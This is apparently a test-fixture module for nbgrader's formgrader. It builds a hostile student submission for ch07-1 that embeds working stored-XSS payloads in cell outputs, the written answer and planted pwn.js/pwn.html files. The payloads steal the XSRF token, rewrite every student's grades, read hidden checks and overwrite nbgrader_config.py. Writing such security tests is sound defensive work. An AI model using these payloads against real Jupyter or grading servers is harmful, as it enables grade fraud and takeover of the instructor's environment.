"""A hostile learner's ch07-1 for the formgrader tests: the honest solution plus payloads that would act as the instructor.

Each payload, if it ran in the instructor's browser, would rewrite grades with formgrader's REST API, read the hidden
checks and overwrite nbgrader_config.py with Jupyter's contents API, and leave a marker (``window.__pwned``, the
page title, a console line). They sit in outputs of extra cells (``hostile_cells``: ``<script>`` and
``<img onerror>`` in HTML, ``application/javascript``, raw HTML with an iframe, a form, ``javascript:`` links,
``data:`` and same-origin scripts, a ``<base>``, an SVG with a script, image metadata that breaks out of its
attribute), in the written answer (``hostile_answer``) and in files handed in next to the notebook (``PLANTED``).
"""

import base64

import nbformat

from class_submissions import submission

ANSWER = "why-validation"  # ch07-1's written answer, graded by hand (2 points)
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII="


def payload(tag, origin):
    """JavaScript that does the harm and leaves a marker; no space, quote or angle bracket: it fits anywhere."""
    return (
        "(function(w,t,o,h){w.__pwned=(w.__pwned||[]).concat([t]);document.title='PWNED-'+t;console.log('PWNED-'+t);"
        "h={'Content-Type':'application/json','X-XSRFToken':(document.cookie.match(/_xsrf=([^;]+)/)||[])[1]||''};"
        "fetch(o+'/formgrader/api/submitted_notebooks/ch07-1/ch07-1',{credentials:'include'}).then(function(r){return(r.json())})"
        ".then(function(n){n.forEach(function(s){fetch(o+'/formgrader/api/grades?submission_id='+s.id,{credentials:'include'})"
        ".then(function(r){return(r.json())}).then(function(g){g.forEach(function(e){fetch(o+'/formgrader/api/grade/'+e.id,"
        "{method:'PUT',headers:h,credentials:'include',body:JSON.stringify({manual_score:s.student=='hostile'?e.max_score:0})})})})})});"
        "fetch(o+'/api/contents/checks/ch07-1.py',{credentials:'include'});"
        "fetch(o+'/api/contents/nbgrader_config.py',{method:'PUT',headers:h,credentials:'include',"
        "body:JSON.stringify({type:'file',format:'text',content:'c=get_config()#PWNED'})})"
        f"}})(window,'{tag}',location.protocol=='file:'?'{origin}':'')"
    )


def hostile_cells(origin):
    """(source, outputs it gives) of each extra code cell: the kernel gives exactly these outputs when it runs."""
    p = lambda tag: payload(tag, origin)  # noqa: E731
    plain = lambda text: {"text/plain": text}  # noqa: E731
    html = (f'<b>결과</b><script>{p("html-script")}</script><img src="x" onerror="{p("html-img-onerror")}">'
            f'<svg onload="{p("html-svg-onload")}"></svg>'
            f'<details open ontoggle="{p("html-details-ontoggle")}"><summary>자세히</summary></details>')
    raw = (f'<iframe srcdoc="&lt;script&gt;{p("iframe-srcdoc")}&lt;/script&gt;"></iframe>'
           f'<iframe src="javascript:{p("iframe-javascript")}"></iframe>'
           f'<iframe src="pwn.html"></iframe>'
           f'<object data="data:text/html;base64,{b64("<script>" + p("object-data") + "</script>")}"></object>'
           f'<script src="data:text/javascript;base64,{b64(p("data-script"))}"></script>'
           f'<script src="pwn.js"></script>'
           f'<form action="javascript:{p("form-action")}"><button id="pwn-form">보내기</button></form>'
           f'<a id="pwn-link" href="javascript:{p("raw-link")}">더 보기</a>'
           f'<base href="https://evil.invalid/">')
    svg = (f'<svg xmlns="http://www.w3.org/2000/svg" width="60" height="20"><script>{p("svg-script")}</script>'
           f'<a href="javascript:{p("svg-link")}"><text x="0" y="15">그림</text></a></svg>')
    markdown = f'<img src="x" onerror="{p("markdown-output-img")}">\n\n[링크](javascript:{p("markdown-output-link")})'
    png_meta = {"image/png": {"width": "1 onload=" + p("png-width-onload"), "height": "1 onerror=" + p("png-height")}}

    def display(data, metadata=None):
        source = f"display({data!r}, metadata={metadata or {}!r}, raw=True)"
        return source, [nbformat.v4.new_output("display_data", data=data, metadata=metadata or {})]

    first = f"# 결과를 보기 좋게 보여 줍니다\nfrom IPython.display import HTML, Javascript, display\nHTML({html!r})"
    cells = [
        (first, [nbformat.v4.new_output("execute_result", data={"text/html": html, **plain("<IPython.core.display.HTML object>")},
                                        execution_count=1)]),
        (f"display(Javascript({p('application-javascript')!r}))",
         [nbformat.v4.new_output("display_data", data={"application/javascript": p("application-javascript"),
                                                       **plain("<IPython.core.display.Javascript object>")})]),
        display({"text/html": raw, **plain("표")}),
        display({"image/svg+xml": svg}),
        display({"image/png": PNG, **plain("그림")}, png_meta),
        display({"text/markdown": markdown, **plain("링크")}),
    ]
    return cells


def b64(text):
    return base64.b64encode(text.encode()).decode()


def hostile_answer(origin):
    honest = cell_source(submission("ch07-1"), ANSWER)
    p = lambda tag: payload(tag, origin)  # noqa: E731
    return (f'{honest}\n\n<script>{p("answer-script")}</script>\n\n<img src="x" onerror="{p("answer-img")}">\n\n'
            f'<a id="pwn-answer-link" href="javascript:{p("answer-href")}">자세히</a> '
            f'[참고 자료](javascript:{p("answer-markdown-link")})\n')


def cell_source(notebook, grade_id):
    return next(c.source for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def hostile_submission(origin):
    """The honest solution (it earns its points) plus the payloads: outputs of extra cells and the written answer."""
    notebook = submission("ch07-1", {ANSWER: hostile_answer(origin)})
    notebook.cells += [nbformat.v4.new_code_cell(source) for source, _ in hostile_cells(origin)]
    return notebook


PLANTED = {  # handed in next to the notebook: formgrader serves the submission's folder at /formgrader/submissions/<id>/
    "pwn.js": lambda origin: payload("planted-js", origin),
    "pwn.html": lambda origin: f"<script>{payload('planted-html', origin)}</script>",
}
